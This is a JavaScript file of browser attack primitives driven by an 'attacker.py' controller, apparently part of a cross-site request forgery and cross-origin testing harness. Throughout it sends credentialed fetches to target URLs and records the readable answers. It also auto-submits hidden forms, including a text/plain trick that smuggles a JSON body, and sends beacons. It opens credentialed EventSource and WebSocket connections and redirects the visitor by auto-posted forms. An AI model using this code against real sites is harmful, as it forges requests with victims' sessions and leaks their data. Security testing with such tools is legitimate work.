// All that a page can have a browser do for it. Each function is asked for by attacker.py.
"use strict";
({
  // Requests of a script. Returns those whose answer the page may read.
  async call({ calls, payload, form, atOnce, patience }) {
    const json = JSON.stringify(payload);
    const fields = () => {
      const made = new FormData();
      for (const name in form) made.append(name, form[name]);
      return made;
    };
    const typed = { body: json, headers: { "content-type": "application/json" } };
    const ways = {
      "no-cors get": () => ({ method: "GET", mode: "no-cors" }),
      "no-cors text": () => ({ method: "POST", mode: "no-cors", body: json }),
      "no-cors form": () => ({ method: "POST", mode: "no-cors", body: new URLSearchParams(form) }),
      "no-cors multipart": () => ({ method: "POST", mode: "no-cors", body: fields() }),
      "cors": (method) => ({ method, mode: "cors", ...(method === "GET" ? {} : typed) }),
      "cors simple": () => ({ method: "POST", mode: "cors", body: json }),
      "cors bearer": (method) => ({ method, mode: "cors", headers: { authorization: "Bearer x" } }),
    };
    const read = [];
    const one = async ({ way, method, url }) => {
      const credentials = way === "cors bearer" ? "omit" : "include";
      const signal = AbortSignal.timeout(patience);
      try {
        const answer = await fetch(url, { ...ways[way](method), credentials, signal });
        if (answer.type !== "opaque" && answer.status < 400) {
          read.push(`${way} ${method} ${url} ${answer.status}`);
        }
        await answer.body?.cancel();
      } catch {
        // Nobody answered, or it may not be read.
      }
    };
    const waiting = [...calls];
    const work = async () => {
      while (waiting.length) await one(waiting.pop());
    };
    await Promise.all(Array.from({ length: atOnce }, work));
    return read;
  },

  // Pictures, scripts, frames, forms, streams. Returns those that told the page something.
  async embed({ gets, posts, streams, payload, form, patience }) {
    const json = JSON.stringify(payload);
    const read = [];
    const until = (begin) =>
      new Promise((done) => {
        setTimeout(done, patience);
        begin(done);
      });
    const put = (tag, attributes, told) =>
      until((done) => {
        const node = document.createElement(tag);
        node.onload = () => {
          told?.(node);
          done();
        };
        node.onerror = done;
        Object.assign(node, attributes);
        document.body.append(node);
      });
    const loaded = (what, url) => () => read.push(`${what} ${url}`);
    const looked = (url) => (frame) => {
      try {
        const inside = frame.contentDocument;
        if (inside.URL !== "about:blank") read.push(`frame ${url} ${inside.body.textContent}`);
      } catch {
        // Of another origin.
      }
    };
    const taken = gets.flatMap((url) => [
      put("img", { src: url }, loaded("picture", url)),
      put("script", { src: url }, loaded("script", url)),
      put("iframe", { src: url }, looked(url)),
      put("object", { data: url }),
      put("embed", { src: url }),
    ]);
    const kinds = ["application/x-www-form-urlencoded", "multipart/form-data", "text/plain"];
    const sent = posts.flatMap((url) =>
      kinds.map((enctype, number) => {
        const name = `${enctype} ${url}`;
        const told = put("iframe", { name });
        const node = document.createElement("form");
        Object.assign(node, { method: "post", action: url, enctype, target: name });
        // As plain text a form can be made to say JSON.
        const said = number === 2 ? { [`${json.slice(0, -1)},"x":"`]: '"}' } : form;
        for (const field in said) {
          const value = said[field];
          node.append(
            Object.assign(document.createElement("input"), { type: "hidden", name: field, value }),
          );
        }
        document.body.append(node);
        node.submit();
        return told;
      }),
    );
    for (const url of posts) navigator.sendBeacon(url, new Blob([json], { type: "text/plain" }));
    const heard = streams.flatMap((url) => [
      until((done) => {
        const source = new EventSource(url, { withCredentials: true });
        source.onopen = loaded("stream", url);
        source.onerror = () => {
          source.close();
          done();
        };
      }),
      until((done) => {
        const socket = new WebSocket(url.replace("http", "ws"));
        socket.onopen = loaded("socket", url);
        socket.onerror = done;
        socket.onclose = done;
      }),
    ]);
    await Promise.all([...taken, ...sent, ...heard]);
    return read;
  },

  // Leads whoever looks away from here, by a link or a form.
  leave({ url, form }) {
    const node = document.createElement(form ? "form" : "a");
    for (const name in form || {}) {
      const value = form[name];
      node.append(Object.assign(document.createElement("input"), { type: "hidden", name, value }));
    }
    Object.assign(node, form ? { method: "post", action: url } : { href: url });
    document.body.append(node);
    if (form) node.submit();
    else node.click();
  },
});
